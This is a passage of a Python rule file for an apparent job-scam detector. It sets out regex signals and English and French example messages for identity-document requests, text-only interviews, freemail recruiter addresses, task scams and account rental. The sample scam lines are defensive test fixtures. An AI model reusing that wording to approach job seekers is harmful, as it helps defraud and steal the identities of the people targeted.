            r" lieu )?de naissance|selfie)\b",
        )
    },
    examples=(
        E("Please send a very clear photo of your passport.",
          spans=("send a very clear photo of your passport",), note="(R21-J)"),
        E("Envoyez-nous un petit selfie avec votre pièce d'identité.",
          lang="fr", spans=("Envoyez-nous un petit selfie",), note="(review17, R21-J)"),
        E("Kindly send a scan of your driver license (front and back).",
          spans=("send a scan of your driver license",),
          note="'driver license' without 's (R21-F)"),
        E("Envoyez un selfie en tenant votre pièce d'identité.",
          lang="fr", spans=("Envoyez un selfie",), note="as 'send a selfie' (R21-F)"),
        E("J'ai besoin d'une photo nette de votre passeport.",
          lang="fr",
          spans=("ai besoin d'une photo nette de votre passeport",),
          note="as 'a clear photo of your passport' (R21-F)"),
        E("envoie-moi une photo de ton passeport",
          lang="fr",
          spans=("envoie-moi une photo de ton passeport",),
          note="« ton », as « ta / tes / votre » (probe12, R21-F)"),
        E("Before we proceed, send a copy of your ID and your bank details for direct deposit.",
          spans=("send a copy of your ID", "bank details for direct deposit")),
        E("pls provide your SSN and date of birth to complete the hiring",
          spans=("provide your SSN",)),
        E("Merci d'envoyer une copie de votre pièce d'identité et votre RIB.", lang="fr",
          spans=("envoyer une copie de votre pièce d'identité",)),
        E("Merci de m'envoyer une photo recto verso de votre carte d'identité.", lang="fr",
          spans=("envoyer une photo recto verso de votre carte d'identité",)),
        E("Email us your address, phone number, a picture of both sides of your driver's permit.",
          spans=("Email us your address, phone number, a picture of both sides of your driver's "
                 "permit",)),
        E("pls respond with ur tax identification number today", spans=(
            "respond with ur tax identification number",)),
        E("Merci de nous envoyer un scan recto-verso de votre carte d'identité. Il nous faudra "
          "aussi votre RIB.", lang="fr",
          spans=("envoyer un scan recto-verso de votre carte d'identité",
                 "Il nous faudra aussi votre RIB")),
        E("Il me faut juste une photo de votre passeport.", lang="fr",
          spans=("Il me faut juste une photo de votre passeport",)),
        E("Nous aurons besoin de votre IBAN et de votre numéro AVS dès aujourd'hui.", lang="fr",
          spans=("aurons besoin de votre IBAN",)),
        E("Pour commencer envoie juste ta carte d'identité et ton RIB par message.", lang="fr",
          spans=("envoie juste ta carte d'identité",),
          note="an adverb between, as « il me faut juste » (set C, R23-B)"),
    ),
    counterexamples=(
        E("Après la signature du contrat, le service RH vous demandera votre passeport via le "
          "portail.",
          lang="fr", note="after the offer (R21-F)"),
        E("Could you send me your updated CV?"),
        E("After you accept the offer, HR will ask for your ID through our onboarding portal.",
          note="after an offer, through HR"),
        E("We will never ask for your bank details before a contract."),
        E("Votre pièce d'identité sera demandée lors de l'embauche par les RH.", lang="fr"),
        # a real business e-mail of the corpus
        E("As I couldn't find your email ID or LinkedIn profile, I am writing to you here."),
        E("Send us your CV, a cover letter, your availability and salary expectations."),
        E("We need someone with a valid passport, as the role involves travel."),
        E("Nous aurons besoin de votre CV et de vos disponibilités.", lang="fr"),
        E("Il nous faut votre CV à jour et vos disponibilités.", lang="fr"),
        E("Lors de votre premier jour, remplissez le formulaire avec votre RIB.", lang="fr",
          note="after the offer"),
    ),
)

_CHATS = ("|".join(app_name(w) for w in ("telegram", "whatsapp")) + r"|signal"
          r"|hangouts|google chat|wickr|textnow|wechat|text messages?|written messages?|sms|chat"
          r"|instant"
          r" messag\w{0,6}|messenger|imessage|texts?")
_CHAT_APPS = r"(?:" + _CHATS + r"|e-?mail)"
#: A written chat on a chat app, the interview's channel (rules R35-C, R35-F): not the app's
#: name alone (« l'entretien se fera sur WhatsApp, en messagerie vidéo » is a video call)
_FIRM_CHAT_FR = (r"\b(?:par|en|uniquement par|seulement par) (?:t?chat|clavardage|messages?"
                 r"|ecrit|sms|textos?) (?:(?:sur|via|avec) )?(?:" + app_name("telegram") + r"|"
                 + app_name("whatsapp") + r"|signal|messenger|wickr|viber)\b")
CHAT_ONLY_INTERVIEW = PatternSignal(
    name="chat_only_interview",
    description="Holds the interview itself by text chat or asks to install a messaging app to "
    "continue: 'the interview will be on Telegram', 'answer these questions by text'.",
    category="contact",
    polarity="risk",
    source="F8 (sub-feature of M9): BBB (Signal text interviews); vsafe.gov; Wichita State; East "
    "Midlands police; Bitdefender; 20 Minutes (CH); Lausanne Cités; monargentmag; FBI IC3 2024",
    # « par chat vidéo », « messagerie visio » in the interview's sentence: a video call
    # (review45 M1, rule R34-G)
    unless=r"\b(?:entretiens?|entrevues?)\b[^.!?]{0,60}\b(?:t?chat|messagerie) (?:video|visio)\b",
    unless_scope="sentence",
    # ...but not where the interview's own clause says it is held in writing on a chat app
    # (« par chat sur Telegram », « par tchat Telegram »): a « messagerie vidéo » named
    # elsewhere in the sentence no longer cancels it (review45, rules R35-C, R35-F)
    firm=_FIRM_CHAT_FR,
    patterns={
        "message": (
            near(r"\binterview(?:s|ed)?\b", r"\b(?:via|on|over|through|by|in|using) (?:a |the )?"
                 + _CHAT_APPS + r"\b", r"[^.!?]{0,40}"),
            r"\b(?:text|chat|written|online chat|instant messaging|im|messaging)[- ](?:based )?"
            r"interviews?\b",
            # the screening held in a chat (e-mail excluded: screening questions are often sent
            # by e-mail)
            near(r"\b(?:screening|screenings|selection process|recruitment process|hiring process"
                 r"|interview process)\b", r"\b(?:via|on|over|through|by|in|using) (?:a |the )?"
                 + r"(?:" + _CHATS + r")\b", r"[^.!?]{0,40}"),
            r"\b(?:answer|reply to|respond to|complete) (?:these|the|some|a few|my|our|his|her"
            r"|their|the following)"
            r" (?:interview |screening )?questions (?:by|via|over|in|on) (?:text|chat|message"
            r"|messages|writing|email|e-mail|telegram|whatsapp|signal)\b",
            r"\b(?:download|install|get) (?:the )?(?:" + app_name("telegram") + r"|"
            + app_name("whatsapp") + r"|signal|wickr|textnow|hangouts|google chat|messaging)"
            r"(?: app| application)? (?:and|to) (?:add|message|text|contact|chat with|reach"
            r"|talk to|start|continue|begin) (?:me|us|the|our|your)\b",
            r"\b(?:can't|cannot|can not|unable to|not able to|won't be able to|don't|do not)"
            r" (?:do|take|make|hold|have|join|attend|answer) (?:any )?(?:phone calls|voice calls"
            r"|video calls|calls|phone or video calls)\b",
            # French
            # (« entrevue », « se tiendra », « en ligne », « via l'appli », « tchat »: rule
            # R34-E, red-team round 13 H3)
            r"\b(?:entretiens?|entrevues?)(?: d'embauche)? (?:se (?:fera|deroulera|passera|fait"
            r"|deroule|passe|tiendra|tient) |aura lieu |a lieu |c'est |est |sera |)(?:uniquement "
            r"|seulement |exclusivement |entierement )?(?:en ligne )?(?:sur|via|par) (?:la "
            r"messagerie |l'appli(?:cation)? |l'app )?(?:" + app_name("telegram") + r"|"
            + app_name("whatsapp") + r"|signal|messagerie|t?chat|clavardage|ecrit|sms|textos?"
            r"|hangouts|messages?)\b",
            r"\b(?:entretiens?|entrevues?) (?:par ecrit|ecrits?|par messages?|par t?chat|par sms"
            r"|par textos?|par clavardage)\b",
            r"\b(?:repondez|repondre|reponds)(?:-y)? (?:aux questions |a ces questions )?"
            r"(?:par ecrit|par message|sur telegram|sur whatsapp)\b",
            r"\btelecharge[zr]? (?:l'application |l'appli )?(?:" + app_name("telegram") + r"|"
            + app_name("whatsapp") + r"|signal)\b",
        )
    },
    examples=(
        E("The manager will interview you by written messages on this app.",
          spans=("interview you by written messages",)),
        E("Pour le poste, l'entretien c'est uniquement par chat.", lang="fr",
          spans=("entretien c'est uniquement par chat",)),
        E("The interview will be conducted on Telegram with our hiring manager.",
          spans=("interview will be conducted on Telegram",)),
        E("Download the whats app app and add me for your chat interview",
          spans=("Download the whats app app and add me", "chat interview")),
        E("I'm travelling and can't do phone calls, answer these questions by text.",
          spans=("can't do phone calls", "answer these questions by text")),
        E("L'entretien se fera sur Telegram, répondez par écrit.", lang="fr",
          spans=("entretien se fera sur Telegram",)),
        E("The whole selection process runs over WhatsApp; answer his questions in writing.",
          spans=("selection process runs over WhatsApp", "answer his questions in writing")),
        E("Ton entretien se passera par messages, réponds par écrit.", lang="fr",
          spans=("entretien se passera par messages",)),
        E("Bonjour, l'entretien se tiendra sur Telegram avec notre responsable.", lang="fr",
          spans=("entretien se tiendra sur Telegram",), note="(R34-E)"),
        E("Votre entretien d'embauche se fera sur Telegram.", lang="fr",
          spans=("entretien d'embauche se fera sur Telegram",), note="(R34-E)"),
        E("L'entrevue se déroule en ligne via l'appli WhatsApp.", lang="fr",
          spans=("entrevue se déroule en ligne via l'appli WhatsApp",), note="(R34-E)"),
        E("L'entretien se fera par tchat sur WhatsApp.", lang="fr",
          spans=("entretien se fera par tchat",), note="« tchat » (R34-E)"),
        E("Entretien par texto demain matin.", lang="fr", spans=("Entretien par texto",),
          note="(R34-E)"),
        E("L'entrevue se déroulera par clavardage avec notre directrice.", lang="fr",
          spans=("entrevue se déroulera par clavardage",), note="« clavardage », chat (R35-A)"),
        E("L'entretien se fera uniquement par chat sur Telegram : la messagerie vidéo ne "
          "marche pas chez nous.", lang="fr", spans=("entretien se fera uniquement par chat",),
          note="a video tool named elsewhere in the sentence (review45, R35-C)"),
        E("L'entretien se fera par tchat Telegram, pas de messagerie vidéo.", lang="fr",
          spans=("entretien se fera par tchat",), note="(review46 M5, R35-F)"),
    ),
    counterexamples=(
        E("Join via this Teams link."),
        E("The first interview is a 30-minute video call; I'll send the invite by email.",
          note="video interview, invite by e-mail"),
        E("L'entretien aura lieu en visio sur Teams.", lang="fr"),
        E("L'entretien se fera sur Teams, puis un échange par mail.", lang="fr",
          note="(R34-E)"),
        E("L'entrevue se tiendra en ligne via Zoom ; le lien suit par message.", lang="fr",
          note="(R34-E)"),
        E("L'entrevue se fera par messagerie vidéo (Teams). Le lien suit.", lang="fr",
          note="a video call (review45 M1, R34-G)"),
        E("L'entretien se fera en ligne par chat vidéo avec le manager.", lang="fr",
          note="(R34-G)"),
        E("L'entretien se fera sur WhatsApp, en messagerie vidéo avec le manager.", lang="fr",
          note="a video call on a chat app (review46 M1, R35-F)"),
        E("L'entrevue se fera en visioconférence ; vous pouvez clavarder avec nous avant.",
          lang="fr", note="(R35-A)"),
        E("The screening questions will come by email, then a video interview."),
    ),
)

FREEMAIL_COMPANY_CONTACT = CallableSignal(
    name="freemail_company_contact",
    description="Writes as a company's HR or recruiting team but gives a consumer e-mail "
    "address (gmail, outlook, yahoo...) instead of one on the company's own domain.",
    category="contact",
    polarity="risk",
    source="F9: FTC recruiter alert (@gmail.com instead of @companyname.com); BBB tips; Wichita "
    "State; Action Fraud; East Midlands police; LinkedIn Help (mismatched domains); Notre "
    "Dame; UCR",
    detector=d.freemail_company_contact,
    fast=d.freemail_company_contact_fast,
    prefilter=(("message", FREEMAIL, False),),
    reads=("message",),
    examples=(
        E("I'm the recruiter for Helix Quantum, send your CV to hr.helixquantum@gmail.com",
          spans=("hr.helixquantum@gmail.com", "recruiter")),
        E("Our HR department will contact you from recruitment.dept@outlook.com",
          spans=("recruitment.dept@outlook.com", "HR")),
        E("Écrivez au service recrutement : rh.lumen@hotmail.fr", lang="fr",
          spans=("rh.lumen@hotmail.fr",)),
        E("Service RH de la société Elektra : envoyez votre CV à recrutement.elektra@orange.fr",
          lang="fr", spans=("recrutement.elektra@orange.fr", "RH"),
          note="Orange's customers' mailboxes (R33-I)"),
        E("Our HR team at Helix Quantum will answer from recruitment.helix@orange.com.ua",
          spans=("recruitment.helix@orange.com.ua", "HR"),
          note="the provider's name under com.ua, as gmail.com.ua: not orange.com (R35-D)"),
        E("Le service RH de Lumen Kyiv répond à rh.lumen@orange.com.ua", lang="fr",
          spans=("rh.lumen@orange.com.ua", "RH"), note="as the English (R35-D)"),
    ),
    counterexamples=(
        E("HR team: priya.nair@helix-quantum.io",
          fields={"sender_company": "Helix Quantum", "sender_company_url": "helix-quantum.io"}),
        E("Contact RH : c.dupont@atelier-lumen.fr", lang="fr",
          fields={"sender_company": "Atelier Lumen"}),
        E("I'm a freelance designer, write to jo.design@gmail.com",
          note="a personal address of an individual: off_platform_request covers it"),
        E("Je suis chargée de recrutement chez Orange : écrivez-moi à claire.martin@orange.com.",
          lang="fr", note="Orange's own staff domain, not its customers' orange.fr (R33-I)"),
        E("I'm a recruiter at La Poste Groupe; please send your CV to j.durand@laposte.fr.",
          note="La Poste's staff domain, not its webmail laposte.net (R33-I)"),
        E("I'm a recruiter at Orange Business; write to me at anna.kovalenko@orange.com.",
          note="the group's staff domain itself, also before a full stop (R35-D)"),
    ),
)

TASK_SCAM = PatternSignal(
    name="task_scam",
    description="Describes a task scam: rate products or like videos for a commission, "
    "'app optimisation', sets of tasks, topping up an account to unlock work.",
    category="fraud",
    polarity="risk",
    source="F11: FBI IC3 PSA June 2024; FTC task scams (MilitaryConsumer.gov); FTC data via AP; "
    "RMC; JDN; monargentmag (Swiss NCSC); 20 Minutes CH; Bluewin; Beobank; Folhomee",
    patterns={
        "message": (
            r"\b(?:rate|rating|review|reviewing|like|liking|boost|boosting|optimi[sz]e"
            r"|optimi[sz]ing"
            r"|click|clicking|subscribe to|follow|watch|watching) (?:(?:the|some|our|online|hotel"
            r"|amazon|youtube|tiktok|instagram)\s)?(?:products?|restaurants?|hotels?|apps?"
            r"|videos?|posts?|merchants?|movies?|songs?|listings?|reviews?|channels?)\b",
            r"\b(?:product|app|apps|merchant|order|traffic) (?:boosting|grabbing)\b"
            r"|\bapps? optimi[sz](?:ation|er|ers)\b",
            r"\b(?:application|product|merchant|data|rating|review|ranking) (?:optimi[sz]ation"
            r"|optimi[sz]er|rating|submission)s? (?:tasks?|jobs?|work|assistant|specialist"
            r"|agent)\b",
            r"\b(?:complete|completing|finish|finishing|do|submit) (?:a |one |the |your |each"
            r" )?(?:set|sets|group|batch|round|series) of (?:[0-9]{1,3} )?(?:tasks|orders|reviews"
            r"|ratings|missions)\b",
            # orders only per set: "40 orders a day" is a warehouse's workload (rule R20-K)
            r"\b[0-9]{2} (?:tasks|ratings|reviews|likes|videos) (?:a|per|each) (?:day|set)\b"
            r"|\b[0-9]{2} orders (?:a|per|each) set\b"
            # as "30 tasks per set" (probe11, R20-E)
            r"|\b[0-9]{2} (?:taches|avis|likes|videos) (?:par|chaque) (?:jour|serie|lot)\b"
            r"|\b[0-9]{2} commandes (?:par|chaque) (?:serie|lot)\b",
            r"\b(?:each|every|per|one|a) (?:set|batch|group|round|series) of [0-9]{1,3} (?:tasks"
            r"|orders|reviews|ratings|missions|products)\b",
            # ratings or reviews the candidate is paid to leave
            r"\b(?:give|giving|leave|leaving|post|posting|write|writing|submit|submitting)"
            r" (?:[0-9]{1,3} )?(?:(?:star|5-star|five-star|positive|fake|short|good)\s){0,2}"
            r"(?:ratings?|reviews?|stars) (?:to|for|on) (?:[a-z]+ ){0,2}(?:hotels?|products?"
            r"|restaurants?|apps?|merchants?|businesses|listings?|sellers?|stores?|movies?)\b",
            r"\bpays? (?:you|u) (?:to|for) (?:give|giving|rate|rating|review|reviewing|like|liking"
            r"|watch|watching|follow|following|subscrib\w{1,3}|click|clicking)\b",
            r"\b(?:submit|submitting)(?: [a-z]+)? (?:orders|purchases)"
            r" (?:on|in|through|via) (?:our|the) (?:app|platform|website|system)\b"
            r"|\b(?:fake|simulated|virtual|dummy) orders\b",
            r"\b(?:percentage|commission|cut|share) of (?:the |each |every )?(?:order|task|product)"
            r" (?:value|amount|price)\b",
            r"\b(?:subscrib(?:e|ing) to|follow(?:ing)?) (?:some |several |various |these |a few "
            r"|[0-9]{1,3} )?(?:tiktok |youtube |instagram |social media )?(?:accounts|channels"
            r"|influencers)\b",
            r"\b(?:online|app|product|hotel) (?:evaluators?|raters?)\b",
            r"\b(?:top[- ]?up|recharge|reload|fund|deposit (?:into|to)) (?:your |the )?(?:task "
            r"|work"
            r" )?(?:account|balance|wallet)\b|\bnegative balance\b",
            r"\bcommissions? (?:per|on each|for each|for every|of [0-9]{1,2} ?% (?:on|per))"
            r" (?:task|order|rating|review|like|click|product)\b",
            r"\b(?:unlock|reset) (?:the |your )?(?:next |new |more )?(?:tasks?|orders?|set|level"
            r"|earnings|withdrawals?)\b",
            r"\bwithdraw (?:your )?(?:earnings|commissions?|profits?|balance)\b",
            # paid "missions" (task scams' word for a set of tasks)
            near(r"\b(?:register for|sign up for|complete|completing|finish|do) (?:a |the |your"
                 r" |each |one |[0-9]{1,3} )?missions?\b", r"\b(?:earn|earning|commissions?"
                 r"|refund|recharge|deposit|usdt)\b", r"[^.!?]{0,40}"),
            r"\b(?:optimi[sz]e|boost|improve|increase) (?:the )?(?:data|ratings?|rankings?"
            r"|reputation|visibility|traffic|reviews?)(?: and (?:ratings?|rankings?|data|reviews?"
            r"|visibility))? (?:of|for) (?:[a-z]+ ){0,2}(?:hotels?|products?|merchants?|apps?"
            r"|restaurants?|stores?|sellers?)\b",
            r"\b(?:5|five)[- ]stars? (?:reviews?|ratings?)\b|\blike (?:and|&) (?:subscribe|follow"
            r"|share)\b|\b(?:simple|easy) online tasks\b|\breceptionist will\b",
            near(r"\b(?:earn|earning|make|making|paid|pay|income|money)\b", r"\b(?:for|by)"
                 r" (?:watching|liking|rating|subscribing|following|clicking)\b", r"[^.!?]{0,40}"),
            r"\bscreenshots? (?:as (?:a )?proof|for proof|of (?:your |the |each )?(?:completed "
            r"|finished )?(?:tasks?|likes?|subscriptions?|follows?|reviews?|ratings?|orders?)"
            r"|after (?:each|every|you (?:like|follow|subscribe|finish|complete)))\b",
            # French
            # the future of a job description (« vous évaluerez les produits ») only with a star
            # rating (rule R19-H)
            r"\b(?:attribuerez|donnerez|mettrez|laisserez) (?:des |de )?(?:notes? )?(?:de )?"
            r"(?:[0-9] )?etoiles\b",
            r"\b(?:noter|notez|evaluer|evaluez|liker|likez|aimer|booster|optimiser|commenter)"
            r" (?:des |les |nos )?(?:produits|applications|applis|videos|publications|posts|hotels"
            r"|restaurants|commandes|chaines)\b",
            r"\blaisser des avis\b|\bavis (?:en ligne )?remuneres?\b",
            r"\b(?:attribuer|donner|mettre|laisser|attribuez|donnez|mettez|laissez|rediger|redigez"
            r"|poster|postez|publier|publiez|ecrire|ecrivez) (?:des |de |[0-9]{1,3} )?(?:[a-z0-9]+"
            r" ){0,2}"
            r"(?:etoiles|notes|avis|commentaires|evaluations) (?:a|aux|sur|pour) (?:des |les |nos"
            r" |vos |leurs )?(?:annonces (?:d'|de )?)?(?:hotels|produits|restaurants|applications"
            r"|applis|commercants|marchands|boutiques|videos)\b",
            r"\bevaluat(?:eur|rice)s? (?:en ligne|de produits|d'applications?|d'hotels?)\b",
            r"\b(?:t'abonner|t'abonnes|vous abonner|vous abonnez|s'abonner|abonnez-vous"
            r"|abonne-toi) (?:a|aux) (?:des |nos |ces |plusieurs )?(?:comptes|chaines|pages"
            r"|profils)\b",
            # (not per review: paid peer review pays an honorarium per review)
            r"\b" + _NUM + r" ?" + _CUR_AFTER + r" (?:par|pour chaque|chaque|la|le) (?:capture|like"
            r"|abonnement|video|clic)\b|(?:" + _CUR + r" ?" + _NUM + r"|" + _NUM
            + r" ?" + _CUR_AFTER
            + r") (?:per|for each|each|a) (?:screenshot|like|follow|subscription"
            r"|click)\b",
            r"\bcommandes? (?:fictives?|simulees?|virtuelles?)\b",
            r"\b(?:chaque|une) (?:serie|lot|groupe|ensemble) (?:de [0-9]{1,3} (?:taches|commandes"
            r"|missions|avis) )?(?:validee?|terminee?|completee?) (?:vous )?(?:rapporte|donne|paie)"
            r"\b",
            r"\b(?:ameliorer|augmenter|booster|optimiser) (?:la |le |les )?(?:visibilite|classement"
            r"|notes?|reputation|trafic) (?:de |des |du |d')(?:leurs |nos |vos |ses )?(?:produits"
            r"|marchands|hotels|applications|boutiques|commercants)\b",
            r"\boptimis(?:eur|ation|atrice) d'(?:applications?|applis?)\b",
            r"\b(?:recharger|rechargez|alimenter|alimentez|crediter|creditez) (?:votre |ton |le )?"
            r"(?:compte|solde|cagnotte|portefeuille)\b",
            r"\bcommissions? (?:par|pour chaque|sur chaque) (?:tache|commande|avis|like|clic"
            r"|mission)\b",
            r"\bcagnotte\b",
            # clicking "Follow" or "Like" on a post (FH22-005, rule R20-J)
            # (a post or a video, not a company's page: job alerts; rule R20-L)
            r"\bcliqu\w{0,3} sur [^.!?]{0,6}(?:suivre|aimer|j'aime|liker)\b[^.!?]{0,30} sur (?:le"
            r"|la|les|chaque|ce|cette) (?:post|publication|video)s?\b"
            r"|\bclick(?:ing)? (?:on )?(?:\"|')?(?:follow|like|subscribe)(?:\"|')? (?:on|under|for)"
            r" (?:the |each |every |a )?(?:post|video)s?\b",
            # as "follow these accounts" and a screenshot sent for a reward (rule R20-D)
            # social accounts (« suivre les comptes clients » is accounting; rule R20-K)
            r"\bsuivre (?:des |les |ces |nos |plusieurs |quelques )?(?:[0-9]{1,3} )?(?:comptes"
            r" (?:instagram|tiktok|youtube|facebook|twitter|x|suivants|recommandes)|chaines"
            r"|influenceurs)\b",
            # a reward, not a pay document (« attestation de rémunération », "the payment error")
            near(r"\bcaptures? d'ecran\b", r"\b(?:recompenses?|commissions?|gains?)\b",
                 r"[^.!?]{0,60}"),
            near(r"\bscreenshots?\b", r"\b(?:rewards?|commissions?|earnings)\b", r"[^.!?]{0,60}"),
            near(r"\b(?:gagne\w{0,3}|remunere\w{0,2}|paye\w{0,2}|argent)\b", r"\b(?:en|pour)"
                 r" (?:regardant|likant|notant|aimant|regarder|liker|noter|aimer)\b",
                 r"[^.!?]{0,40}"),
            r"\b(?:missions?|taches?) (?:simples?|faciles?) (?:en ligne|sur (?:votre|ton)"
            r" telephone|depuis chez (?:vous|toi))\b",
            r"\bcaptures? d'ecran (?:comme preuve|en preuve|de (?:chaque|la|votre|ta) (?:tache"
            r"|mission|like|abonnement|avis))\b",
            r"\bdebloquer (?:les |la |vos |tes )?(?:taches?|missions?|retraits?|gains)\b",
        )
    },
    examples=(
        E("Ce que vous devez faire, c'est suivre ces 5 comptes Instagram.",
          lang="fr", spans=("suivre ces 5 comptes Instagram",), note="review13, R20-K"),
        E("Your task is simple: just click 'Like' on the post.",
          spans=("click 'Like' on the post",)),
        E("Il vous suffit de cliquer sur ‘Suivre’ ou ‘Aimer’ sur le post Instagram.",
          lang="fr",
          spans=("cliquer sur ‘Suivre’ ou ‘Aimer’ sur le post",),
          note="FH22-005, rule R20-J"),
        E("Complétez 30 tâches par série pour débloquer vos gains.",
          lang="fr",
          spans=("30 tâches par série", "débloquer vos gains",),
          note="as '30 tasks per set' (R20-E)"),
        E("Send the screenshot here to receive your reward of 10 euros.",
          spans=("screenshot here to receive your reward",)),
        E("Envoyez la capture d'écran ici pour recevoir votre récompense de 10 euros.",
          lang="fr", spans=("capture d'écran ici pour recevoir votre récompense",)),
        E("Ce que vous devez faire, c'est suivre les comptes Instagram suivants.",
          lang="fr", spans=("suivre les comptes",), note="as 'follow these accounts' (R20-D)"),
        E("Vous attribuerez des notes 5 étoiles à des annonces d'hôtels.",
          lang="fr",
          spans=("attribuerez des notes 5 étoiles",)),
        E("Simple job: rate products online and earn commission per task, paid in USDT.",
          spans=("rate products", "commission per task")),
        E("Complete a set of 40 tasks, then top up your account to unlock the next set.",
          spans=("Complete a set of 40 tasks", "top up your account", "unlock the next set")),
        E("Le travail : liker des vidéos et noter des produits, commission par tâche.",
          lang="fr", spans=("liker des vidéos", "noter des produits", "commission par tâche")),
        E("Our main job is to improve the reviews of various products for merchants.",
          spans=("improve the reviews of various products",)),
        E("Sign up for a mission, deposit 500 and earn 5,000 in commission.",
          spans=("Sign up for a mission, deposit",)),
        E("We pay you to leave five-star reviews for restaurants, $4 per screenshot, with a "
          "commission of the order value on every batch of 20 orders.",
          spans=("leave five-star reviews for restaurants", "$4 per screenshot",
                 "every batch of 20 orders")),
        E("The platform pays u for liking posts.", spans=("pays u for liking",)),
        E("Suivez quelques chaînes et publiez des avis sur des produits : 2 € par capture.",
          lang="fr", spans=("publiez des avis sur des produits", "2 € par capture")),
        E("Des commandes fictives sur nos boutiques ; chaque lot validé vous rapporte 10 %.",
          lang="fr", spans=("commandes fictives", "chaque lot validé vous rapporte")),
    ),
    counterexamples=(
        E("Click Follow on the page to get our job alerts.",
          note="a company's page (review14, R20-L)"),
        E("Il faut suivre les comptes clients et relancer les impayés.",
          lang="fr", note="accounting"),
        E("Please ask the merchant to send a screenshot of the payment error."),
        E("Envoyez une capture d'écran de votre attestation de rémunération à la CAF.",
          lang="fr", note="a pay document, no reward"),
        E("Our warehouse ships 40 orders a day; we need a hand for the summer."),
        E("Notre équipe traite en moyenne 40 commandes par jour ; nous cherchons un renfort "
          "pour l'été.",
          lang="fr", note="a warehouse's workload (R20-K)"),
        E("Click follow on our company page to get job alerts."),
        E("Cliquez sur suivre pour recevoir nos offres d'emploi.",
          lang="fr", note="a company's page"),
        E("Please attach a screenshot of the error to your ticket.", note="no reward"),
        E("Suivez notre page LinkedIn pour être informé de nos offres.",
          lang="fr", note="a company page"),
        E("Vous évaluerez les produits concurrents et rédigerez des notes sur nos produits.",
          lang="fr",
          note="a job description (R19-H)"),
        E("We're hiring a product manager to own our ratings and reviews platform."),
        E("As account manager you will increase sales of our products in the region.",
          note="a sales role: sales, not reviews or ratings"),
        E("Poste de chef de produit pour notre application mobile, CDI.", lang="fr"),
        E("Our mission is to help maintainers earn a living; complete the form to apply."),
        E("As buyer you will place orders on our platform with approved suppliers."),
        E("Follow our company page for updates on the role."),
        E("The research council pays reviewers an honorarium of £150 per review.",
          note="paid peer review"),
        E("Vous améliorerez la visibilité de notre marque employeur sur les réseaux.",
          lang="fr"),
    ),
)

# a private person seeks a partner for where they live, to "collaborate" (F12 proxy work)
_PROXY_SEEKER = (
    r"\b(?:looking|searching|seeking|need|i need|i want)\b (?:for )?(?:a|an|someone|somebody"
    r"|one) (?:[a-z\-]+ ){0,3}(?:(?:us|usa|u\.s\.|american|european|eu|uk|british|canadian"
    r"|western|local)[- ]?(?:based )?|based in (?:the )?(?:us|usa|europe|uk|canada) ?)"
    r"(?:developers?|engineers?|devs?|partners?|persons?|people|freelancers?|individuals?"
    r"|residents?|citizens?|someone)\b"
)
_PROXY_COLLAB = (
    r"\b(?:to collaborate with (?:me|us)\b|to collaborate(?: with)? ?(?:[.,!]|$)"
    r"|collaborat\w{0,5} with me\b|(?:long-term|part-time|long term|part time)[, ]{1,2}"
    r"(?:(?:long-term|part-time|long term|part time|remote)[, ]{1,2})?(?:collaboration"
    r"|partnership)\b|to partner with (?:me|us)\b|as (?:a |my )?(?:business )?partner\b)"
)

ACCOUNT_RENTAL = PatternSignal(
    name="account_rental",
    description="Proposes renting or sharing the candidate's freelance or developer account or "
    "identity, or someone else sitting interviews in the candidate's name.",
    category="fraud",
    polarity="risk",
    source="F12: The Coding Den PSA (Upwork account sharing); TechSparx; Publish0x; Vadim "
    "Kravcenko (interviews-as-a-service); US-ROK advisory on DPRK IT workers (IC3 PSA231018); "
    "KnowBe4 fake-hire case",
    patterns={
        "message": (
            r"\b(?:rent|lend|borrow|share|buy|lease|use|using|access) (?:out )?(?:your|an|a|my)"
            r" (?:(?:verified|aged|old|us|us-based|american|european|personal|active)\s){0,2}"
            r"(?:upwork|fiverr|freelancer|toptal|linkedin|github|payoneer|stripe|malt|developer"
            r"|freelance|indeed) accounts?\b",
            r"\b(?:rent|lend|borrow|buy|lease) (?:out )?(?:your|an|a|my)"
            r" (?:(?:verified|aged|old|us|us-based|american|european|personal|active)\s){0,2}"
            r"(?:upwork|fiverr|freelancer|toptal|linkedin|github|payoneer|stripe|malt|developer"
            r"|freelance|indeed) profiles?\b",
            r"\baccount (?:sharing|rental|renting|lending|partnership)\b",
            # the sender works through the candidate's account or profile for a cut
            r"\b(?:run|operate|manage|take|bid on|handle|get) (?:the |our |client |freelance )?"
            r"(?:projects|jobs|contracts|clients|gigs|work) (?:through|via|using|under) (?:your|ur)"
            r" (?:(?:upwork|fiverr|freelancer|freelance|toptal|linkedin|github|malt|developer"
            r"|personal|own) (?:profile|account)|name|identity)s?\b",
            r"\b[0-9]{1,2} ?(?:%|percent) of (?:everything|all|whatever|what) (?:it|the account"
            r"|the profile|your (?:account|profile)) (?:earns|makes|generates|brings in)\b",
            r"\b(?:upwork|fiverr|freelancer|toptal|linkedin|github|payoneer|malt|freelance|indeed)?"
            r" ?(?:accounts?|profiles?) (?:older than [0-9a-z]{1,5} (?:years?|months?)|(?:of at"
            r" least|at least|over|more than) [0-9a-z]{1,5} (?:years?|months?) old)\b|\b(?:aged|old"
            r"|established)"
            r" (?:upwork|fiverr|freelancer|linkedin|github|freelance) (?:accounts?|profiles?)\b",
            # a "face" on camera while others do the work
            r"\b(?:a|the|our) ['\"]?face['\"]? (?:for|of|on|in) (?:the |our )?(?:client |video )?"
            r"(?:calls?|meetings?|interviews?|clients?)\b|\b(?:you|u) (?:appear|show up|sit"
            r"|present) on (?:camera|video|calls?)\b[^.!?]{0,60}\b(?:while|and) (?:our|my|we|the)"
            r" (?:engineers?|developers?|team|devs?)\b",
            r"\b(?:rent|lend) (?:us |me )?your (?:account|profile|identity|name)\b",
            # "lending ur freelancer account", "use your account and identity to apply"
            r"\b(?:rent|renting|lend|lending|borrow|borrowing|lease|leasing) (?:out )?(?:us |me )?"
            r"(?:ur|your) (?:(?:verified|aged|old|personal|active)\s)?(?:upwork|fiverr|freelancer"
            r"|toptal|linkedin|github|malt|developer|freelance|indeed) (?:accounts?|profiles?)\b",
            r"\b(?:use|using|borrow|borrowing) (?:ur|your) (?:account|profile) and (?:ur |your )?"
            r"(?:identity|name)\b|\bapply (?:to (?:jobs|roles|positions) )?(?:in your name"
            r"|under your name)\b",
            r"\b(?:monthly|weekly|fixed) (?:fee|payment|rent|income) for (?:your|the use of your"
            r"|using your) (?:account|profile|identity|name)\b",
            r"\b(?:attend|take|do|handle|pass|join) (?:the |your )?(?:technical )?(?:interviews?"
            r"|calls?|meetings?) (?:for you|on your behalf|in your name|as you|under your name"
